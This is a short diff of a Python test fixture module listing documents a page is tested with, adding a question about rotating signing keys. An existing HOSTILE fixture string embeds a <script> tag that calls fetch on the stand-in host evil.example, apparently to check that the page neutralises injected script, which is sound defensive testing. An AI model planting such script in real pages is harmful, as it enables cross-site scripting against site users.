@@ -1,5 +1,6 @@
 """What stands in the documents that the page is tried with."""
 
+QUESTION = "Do we rotate the signing keys every ninety days?"  # near enough for the tests' encoder
 LAMP = "The lighthouse keeper polishes the copper lamp every evening."
 HOSTILE = (
     "The volcano <script>fetch('http://evil.example/a')</script>"
